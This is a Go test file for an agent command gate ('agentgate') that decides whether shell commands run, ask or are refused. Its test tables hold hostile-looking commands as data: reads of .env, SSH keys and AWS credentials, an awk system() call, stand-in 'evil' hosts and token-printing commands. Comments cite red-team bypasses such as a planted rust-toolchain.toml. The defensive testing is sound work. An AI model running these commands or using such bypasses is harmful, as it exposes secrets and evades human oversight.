package gate_test

import (
	"strings"
	"testing"

	"github.com/agentgate/agentgate/allowlist"
	"github.com/agentgate/agentgate/gate"
)

// sampleValues are flag values the catalogue test writes for a
// placeholder; any other placeholder gets "1".
var sampleValues = map[string]string{"PATTERN": "x", "FILE": "f", "DIR": "d", "FORMAT": "%s", "STRING": "s", "NAME": "n"}

// entrySamples override the value of one flag of one entry, where the
// entry judges the value ("sed -e" must be a script that prints).
var entrySamples = map[string]string{"sed -e": "1p", "sed --expression": "1p", "gh api -X": "GET", "gh api --method": "GET"}

// flagUses are the ways a program accepts the flag: every name, with
// its value attached and apart, and for a long name an abbreviation.
func flagUses(e *allowlist.Entry, f allowlist.Flag) [][]string {
	var out [][]string
	for _, n := range f.Names {
		v := sampleValues[f.Value]
		if v == "" {
			v = "1"
		}
		if s, ok := entrySamples[e.Name()+" "+n]; ok {
			v = s
		}
		if e.Words[0] == "kubectl" && (n == "-o" || n == "--output") {
			v = "wide"
		}
		bare := f.Value == "" || containsName(f.Bare, n)
		var more []string
		for _, m := range f.More {
			more = append(more, sampleValues[m]+"v")
		}
		switch {
		case bare:
			out = append(out, []string{n})
		case len(more) > 0:
			out = append(out, append([]string{n, v}, more...))
		case f.Optional && strings.HasPrefix(n, "--"):
			out = append(out, []string{n}, []string{n + "=" + v})
		case f.Optional:
			out = append(out, []string{n}, []string{n + v})
		case strings.HasPrefix(n, "--"):
			out = append(out, []string{n, v}, []string{n + "=" + v})
		case len(n) == 2 && !e.SingleDash && !e.ExactFlags:
			out = append(out, []string{n, v}, []string{n + v})
		default:
			out = append(out, []string{n, v})
		}
		if f.Effect != allowlist.Reads && strings.HasPrefix(n, "--") && len(n) > 5 {
			// An abbreviation of a refused flag is refused.
			abbr := []string{n[:len(n)-1]}
			if !bare {
				abbr = append(abbr, v)
			}
			out = append(out, append(abbr, more...))
		}
	}
	return out
}

func containsName(names []string, n string) bool {
	for _, x := range names {
		if x == n {
			return true
		}
	}
	return false
}

// Every flag of every catalogue entry, through Decide: a flag that reads
// is allowed in a case that uses it, a refused one asks and names it.
func TestCatalogueFlags(t *testing.T) {
	rules := allRules()
	for _, e := range catalogueEntries() {
		if e.Example == "" {
			t.Errorf("%s: no example", e.Name())
			continue
		}
		base := strings.Fields(e.Example)
		if strings.Contains(e.Note, "always asks") {
			if d := gate.Decide(gate.Request{Text: e.Example, Rules: rules, Hazards: noHazards}); d.Verdict() != gate.Ask {
				t.Errorf("example %q = %s; want ask", e.Example, d.Verdict())
			}
			continue
		}
		if d := gate.Decide(gate.Request{Text: e.Example, Rules: rules, Hazards: noHazards}); d.Verdict() != gate.Allow {
			t.Errorf("example %q = %s (%s); want allow", e.Example, d.Verdict(), d.Primary().Message)
			continue
		}
		seen := map[string]allowlist.Effect{}
		for _, f := range e.FlagList() {
			shadowed := false
			for _, n := range f.Names {
				if _, ok := seen[n]; ok {
					shadowed = true
				}
			}
			if f.Note == "" {
				t.Errorf("%s %s: no note", e.Name(), f.Spec())
			}
			for _, n := range f.Names {
				if eff, dup := seen[n]; dup && eff != f.Effect && (eff == allowlist.Reads || f.Effect == allowlist.Reads) {
					t.Errorf("%s: %s listed twice with different effects", e.Name(), n)
				}
				seen[n] = f.Effect
			}
			if shadowed {
				continue // an earlier flag of the entry wins
			}
			for _, use := range flagUses(e, f) {
				argv := append(append(append([]string{}, base[:len(e.Words)]...), use...), base[len(e.Words):]...)
				text := shellJoin(argv)
				d := gate.Decide(gate.Request{Text: text, Rules: rules, Hazards: noHazards})
				if f.Effect == allowlist.Reads {
					if d.Verdict() != gate.Allow {
						t.Errorf("%s (%s) = %s (%s); want allow", text, f.Spec(), d.Verdict(), d.Primary().Message)
					}
				} else if c := d.Primary().Check; d.Verdict() != gate.Ask || c != gate.CheckException && c != gate.CheckSelfProtect {
					t.Errorf("%s (%s: %s) = %s (%s); want ask on the flag", text, f.Spec(), f.Note, d.Verdict(), d.Primary().Message)
				}
			}
		}
	}
}

// Every entry's Example runs and every one of its Asks asks (issue 16),
// with the default rules, every pack on and the default compound mode
// (split), and is refused by the entry itself: an ask for another reason
// (a program not in the catalogue, a misspelt entry, a compound) would
// pass whatever the entry says. As in TestCatalogueFlags, no path is
// protected: those checks are tested on their own. An entry without a
// must-ask example fails.
func TestCatalogueAsks(t *testing.T) {
	rules := allRules()
	decide := func(text string) gate.Decision {
		return gate.Decide(gate.Request{Text: text, Rules: rules, Split: true, Hazards: noHazards})
	}
	paths := gate.Paths{Home: "/home/u", Cwd: "/home/u/proj", Self: gate.DefaultSelf, Sensitive: gate.DefaultSensitive}.Compile()
	decideWithPaths := func(text string) gate.Decision {
		return gate.Decide(gate.Request{Text: text, Rules: rules, Split: true, Hazards: noHazards, Paths: paths})
	}
	for _, e := range catalogueEntries() {
		if d := decide(e.Example); d.Verdict() != gate.Allow && !strings.Contains(e.Note, "always asks") {
			t.Errorf("%s: example %q = %s (%s); want allow", e.Name(), e.Example, d.Verdict(), d.Primary().Message)
		}
		// With the default protected and sensitive paths too ("[ -f f ]"
		// asked: the program "[" was read as a glob that could be
		// ~/.bashrc).
		if d := decideWithPaths(e.Example); d.Verdict() != gate.Allow && !strings.Contains(e.Note, "always asks") {
			t.Errorf("%s: example %q = %s with the default paths (%s); want allow", e.Name(), e.Example, d.Verdict(), d.Primary().Message)
		}
		if len(e.Asks) == 0 {
			t.Errorf("%s: no must-ask example (Entry.Asks)", e.Name())
		}
		for _, text := range e.Asks {
			d := decide(text)
			var argv []string
			if cmds := d.Commands(); len(cmds) == 1 {
				argv = cmds[0]
			}
			_, ref, ok := e.Judge(argv)
			switch {
			case d.Verdict() == gate.Allow:
				t.Errorf("%s: %q is allowed; it must ask", e.Name(), text)
			case !ok:
				t.Errorf("%s: %q is not one command of the entry", e.Name(), text)
			case ref == nil:
				t.Errorf("%s: %q asks for another reason (%s: %s); the entry itself must refuse it", e.Name(), text, d.Primary().Check, d.Primary().Message)
			}
		}
	}
}

// catalogueEntries are the built-in entries and those of every pack.
func catalogueEntries() []*allowlist.Entry {
	entries := append([]*allowlist.Entry(nil), allowlist.Builtin()...)
	for _, name := range allowlist.PackNames() {
		p, _ := allowlist.LookupPack(name)
		entries = append(entries, p.Entries...)
	}
	return entries
}

func shellJoin(argv []string) string {
	out := make([]string, len(argv))
	for i, w := range argv {
		if strings.ContainsAny(w, " %*?[]{}~$'\"\\;&|<>()#!") {
			w = "'" + strings.ReplaceAll(w, "'", `'\''`) + "'"
		}
		out[i] = w
	}
	return strings.Join(out, " ")
}

// Words exactly: a pattern or string of an entry is not a path, quoting
// changes nothing, a glob that cannot be a flag does not ask for the flag
// risk, and what it could expand to is still judged.
func TestCatalogueWords(t *testing.T) {
	packs := allRules()
	tests := []struct {
		text  string
		split bool
		want  gate.Verdict
		check gate.Check
	}{
		{"grep 'x*' f", false, gate.Allow, gate.CheckAllowlist},
		{"grep .env f", false, gate.Allow, gate.CheckAllowlist},
		{"find . -name '*.o'", false, gate.Allow, gate.CheckAllowlist},
		{`find . -name \*.py`, false, gate.Allow, gate.CheckAllowlist},
		{"find . -name *.py", false, gate.Allow, gate.CheckAllowlist},
		{"find . -name *", false, gate.Ask, gate.CheckSensitive},
		{"find . -name [-]*", false, gate.Ask, gate.CheckException},
		{"find ~ -name x", false, gate.Allow, gate.CheckAllowlist},
		{"find ~- -name x", false, gate.Ask, gate.CheckText}, // ~- is $OLDPWD: sticky
		{"echo .env ~/.ssh/id_rsa", false, gate.Allow, gate.CheckAllowlist},
		{"cat '.env'", false, gate.Ask, gate.CheckSensitive},
		{"cat .env", false, gate.Ask, gate.CheckSensitive},
		{"cat ./*", false, gate.Ask, gate.CheckSensitive},
		{"grep -f .env x", false, gate.Ask, gate.CheckSensitive},
		{"grep -f.env x", false, gate.Ask, gate.CheckSensitive},
		{"grep x* .env", false, gate.Ask, gate.CheckSensitive},
		{"grep -- -x -.env", false, gate.Allow, gate.CheckAllowlist},
		{"grep -rn --include=*.go TODO .", false, gate.Allow, gate.CheckAllowlist},
		{"ls *.go", false, gate.Allow, gate.CheckAllowlist},
		{"sort *.txt", false, gate.Ask, gate.CheckException},
		{"uniq *.txt", false, gate.Ask, gate.CheckException},
		{"sort -co out f", false, gate.Ask, gate.CheckException},
		// xargs: the gate judges the words; what feeds it is judged on
		// disk by the engine (resolve.XargsInputs). awk: dangerous tokens
		// are looked for anywhere in the program, not lexed (red team
		// F12, F14).
		{"xargs grep x", false, gate.Allow, gate.CheckAllowlist},
		{"xargs", false, gate.Ask, gate.CheckException},
		{"awk '{print $1}' f", false, gate.Allow, gate.CheckAllowlist},
		{`awk 'BEGIN{x = 1 + /#/ } BEGIN{system("id")}'`, false, gate.Ask, gate.CheckException},
		{"git grep --no-index SECRET", false, gate.Ask, gate.CheckException},
		{"git grep --untracked SECRET", false, gate.Ask, gate.CheckException},
		{"git grep --untr SECRET", false, gate.Ask, gate.CheckException},
		{"sed -n '1,5p' f", false, gate.Allow, gate.CheckAllowlist},
		{"sed 's/a/b/w out' f", false, gate.Ask, gate.CheckException},
		{"date +%Y", false, gate.Allow, gate.CheckAllowlist},
		{"date -s 2020-01-01", false, gate.Ask, gate.CheckException},
		{"git config --get user.name", false, gate.Allow, gate.CheckAllowlist},
		{"git config user.name x", false, gate.Ask, gate.CheckSelfProtect},
		{"git config --list", false, gate.Ask, gate.CheckSelfProtect},
		{"git config --get remote.origin.url", false, gate.Ask, gate.CheckSelfProtect},
		{"tar tvf a.tar", false, gate.Allow, gate.CheckAllowlist},
		{"tar xf a.tar", false, gate.Ask, gate.CheckException},
		{"tar -tf host:a.tar", false, gate.Ask, gate.CheckException},
		{"git --no-pager log -3", false, gate.Allow, gate.CheckAllowlist},
		{"git -c core.pager=id log", false, gate.Ask, gate.CheckDefault},
		// cd DIR && ...: the rest is judged from DIR too.
		{"cd ./sub && ls", true, gate.Allow, gate.CheckAllowlist},
		{`c\d ./sub && ls`, true, gate.Allow, gate.CheckAllowlist}, // bash's cd, however spelt
		{"cd ./sub && cat ../../.aws/credentials", true, gate.Ask, gate.CheckSensitive},
		// Anywhere (issue 18): the target is judged as a path, and the
		// rest from it; "cd sub" only without CDPATH in the environment.
		{"cd /tmp && ls", true, gate.Allow, gate.CheckAllowlist},
		{"cd sub && ls", true, gate.Allow, gate.CheckAllowlist},
		{"cd ../.. && ls", true, gate.Allow, gate.CheckAllowlist},
		{"cd ~/.ssh && ls", true, gate.Ask, gate.CheckSensitive},
		{"cd ~/.ssh && cat id_rsa", true, gate.Ask, gate.CheckSensitive},
		{"cd /home/u/.aws && cat credentials", true, gate.Ask, gate.CheckSensitive},
		{"cd .git && cat config", true, gate.Ask, gate.CheckSelfProtect},
		{"cd - && ls", true, gate.Ask, gate.CheckDefault},
		{"cd ./sub && git log", true, gate.Ask, gate.CheckException},
		{"ls && cd sub", true, gate.Ask, gate.CheckDefault},
	}
	for _, tt := range tests {
		d := gate.Decide(gate.Request{Text: tt.text, Rules: allowlist.Defaults(), Paths: defaultPaths, Split: tt.split, Hazards: noHazards})
		if d.Verdict() != tt.want || d.Primary().Check != tt.check {
			t.Errorf("Decide(%q, split=%v) = %s [%s] %s; want %s [%s]", tt.text, tt.split, d.Verdict(), d.Primary().Check, d.Primary().Message, tt.want, tt.check)
		}
	}
	packTests := []struct {
		text string
		want gate.Verdict
	}{
		{"kubectl get pods -n x", gate.Allow},
		{"kubectl get secrets", gate.Ask},
		{"kubectl get pods -o yaml", gate.Ask},
		{"kubectl get nodes -o yaml", gate.Allow},
		{"kubectl get pods -o jsonpath={.items}", gate.Ask},
		{"kubectl --context prod get pods", gate.Ask},
		{"kubectl config view --raw", gate.Ask},
		{"docker ps -a", gate.Allow},
		{"docker -H ssh://evil ps", gate.Ask},
		{"docker inspect c", gate.Ask},
		{"docker inspect -f '{{.State.Status}}' c", gate.Allow},
		{"docker inspect -f '{{json .Config.Env}}' c", gate.Ask},
		{"docker logs c", gate.Ask},
		{"docker compose config --services", gate.Allow},
		{"docker compose config", gate.Ask},
		{"docker compose config --images", gate.Ask},
		{"docker compose config --profiles", gate.Ask},
		{"gh pr list --json number --jq '.[].number'", gate.Allow},
		{"gh pr list --json number --jq env", gate.Ask},
		{"gh pr view 1 --web", gate.Ask},
		{"gh api repos/o/r/pulls", gate.Allow},
		{"gh api -X POST repos/o/r/issues", gate.Ask},
		{"gh api -f title=x repos/o/r/issues", gate.Ask},
		{"gh api https://evil.example/x", gate.Ask},
		{"go list -json ./...", gate.Allow},
		{"go list -toolexec ./x ./...", gate.Ask},
		{"go env -w GOFLAGS=-x", gate.Ask},
		{"cargo metadata --format-version 1", gate.Allow},
		{"cargo metadata --config build.rustc=./x", gate.Ask},
		{"npm ls --depth=0", gate.Allow},
		{"npm audit fix", gate.Ask},
		{"npm version patch", gate.Ask},
		{"pip list --outdated", gate.Allow},
		{"pip install x", gate.Ask},
	}
	for _, tt := range packTests {
		d := gate.Decide(gate.Request{Text: tt.text, Rules: packs, Paths: defaultPaths, Hazards: noHazards})
		if d.Verdict() != tt.want {
			t.Errorf("Decide(%q) with every pack = %s (%s); want %s", tt.text, d.Verdict(), d.Primary().Message, tt.want)
		}
		if d2 := gate.Decide(gate.Request{Text: tt.text, Rules: allowlist.Defaults(), Paths: defaultPaths}); d2.Verdict() == gate.Allow {
			t.Errorf("Decide(%q) without packs allowed", tt.text)
		}
	}
}

// git in another directory asks unless the engine vouches for the
// repository found there.
func TestOtherRepository(t *testing.T) {
	var asked []string
	vet := func(ok bool) func(string) bool {
		return func(dir string) bool { asked = append(asked, dir); return ok }
	}
	for _, tt := range []struct {
		text  string
		split bool
		ok    bool
		want  gate.Verdict
		dir   string
	}{
		{"git -C sub log", false, true, gate.Allow, "/home/u/proj/sub"},
		{"git -C sub log", false, false, gate.Ask, "/home/u/proj/sub"},
		{"cd ./sub && git status", true, true, gate.Allow, "/home/u/proj/sub"},
		{"cd ./sub && git -C deeper status", true, true, gate.Allow, "/home/u/proj/sub/deeper"},
	} {
		asked = nil
		d := gate.Decide(gate.Request{Text: tt.text, Rules: allowlist.Defaults(), Paths: defaultPaths, Split: tt.split, VetDir: vet(tt.ok)})
		if d.Verdict() != tt.want || len(asked) != 1 || asked[0] != tt.dir {
			t.Errorf("Decide(%q) = %s (%s), vetted %q; want %s after vetting %s", tt.text, d.Verdict(), d.Primary().Message, asked, tt.want, tt.dir)
		}
	}
}

// A command whose entry has hazards asks when nobody checked them, and
// when the check finds one; it runs when the check finds none.
func TestHazardsAsk(t *testing.T) {
	rules := allRules()
	found := func([]string) []string { return []string{"the kubeconfig runs a credential plugin program"} }
	for _, tt := range []struct {
		text    string
		hazards func([]string) []string
		want    gate.Verdict
	}{
		{"kubectl get pods", nil, gate.Ask},
		{"kubectl get pods", found, gate.Ask},
		{"kubectl get pods", noHazards, gate.Allow},
		{"git remote -v", nil, gate.Ask},
		{"git remote -v", noHazards, gate.Allow},
		{"git log", nil, gate.Allow},
		{"ls | kubectl get pods", nil, gate.Ask},
	} {
		d := gate.Decide(gate.Request{Text: tt.text, Rules: rules, Paths: defaultPaths, Split: true, Hazards: tt.hazards})
		if d.Verdict() != tt.want {
			t.Errorf("Decide(%q) = %s (%s); want %s", tt.text, d.Verdict(), d.Primary().Message, tt.want)
		}
		if d.Verdict() == gate.Ask && d.Primary().Check != gate.CheckHazard {
			t.Errorf("Decide(%q) asks for %s; want %s", tt.text, d.Primary().Check, gate.CheckHazard)
		}
	}
}

// Pack commands that could send a token elsewhere or print a credential.
func TestPackCredentials(t *testing.T) {
	for _, text := range []string{
		"gh pr list -R evil.example/o/r", "gh api --hostname evil.example repos/o/r", "npm config get //registry.npmjs.org/:_authToken",
		"npm get _auth", "npm config get", "go env", "go env GOPROXY", "pip config list", "gh auth status --show-token",
	} {
		if d := gate.Decide(gate.Request{Text: text, Rules: allRules(), Paths: defaultPaths, Hazards: noHazards}); d.Verdict() == gate.Allow {
			t.Errorf("Decide(%q) allowed", text)
		}
	}
	for _, text := range []string{"gh pr list -R o/r", "npm config get editor", "go env GOPATH GOOS"} {
		if d := gate.Decide(gate.Request{Text: text, Rules: allRules(), Paths: defaultPaths, Hazards: noHazards}); d.Verdict() != gate.Allow {
			t.Errorf("Decide(%q) = %s (%s); want allow", text, d.Verdict(), d.Primary().Message)
		}
	}
}

// "cd NAME" looks NAME up in CDPATH when the environment sets it: then
// where it goes is not known, and the compound asks.
func TestCdWithCDPATH(t *testing.T) {
	p := defaultPaths
	p.Vars = map[string]string{"CDPATH": "/home/u"}
	if d := gate.Decide(gate.Request{Text: "cd sub && ls", Rules: allowlist.Defaults(), Paths: p, Split: true, Hazards: noHazards}); d.Verdict() == gate.Allow {
		t.Errorf("cd sub with CDPATH set: allowed")
	}
	if d := gate.Decide(gate.Request{Text: "cd ./sub && ls", Rules: allowlist.Defaults(), Paths: p, Split: true, Hazards: noHazards}); d.Verdict() != gate.Allow {
		t.Errorf("cd ./sub with CDPATH set: %s (%s)", d.Verdict(), d.Primary())
	}
}

// An interpreter's --version runs when no version manager's file could
// make its shim run something else, and asks when one is there (a red
// team's rust-toolchain.toml with "path =" ran a planted rustc).
func TestVersionEntriesHazards(t *testing.T) {
	for _, text := range []string{"node --version", "python3 --version", "rustc -V"} {
		if d := gate.Decide(gate.Request{Text: text, Rules: allowlist.Defaults(), Paths: defaultPaths, Hazards: noHazards}); d.Verdict() != gate.Allow {
			t.Errorf("%s with no hazard file: %s (%s)", text, d.Verdict(), d.Primary())
		}
	}
	planted := func(argv []string) []string {
		return []string{"rust-toolchain.toml: rustup runs the toolchain it names"}
	}
	if d := gate.Decide(gate.Request{Text: "rustc --version", Rules: allowlist.Defaults(), Paths: defaultPaths, Hazards: planted}); d.Verdict() == gate.Allow {
		t.Errorf("rustc --version with a planted rust-toolchain.toml: allowed")
	}
}
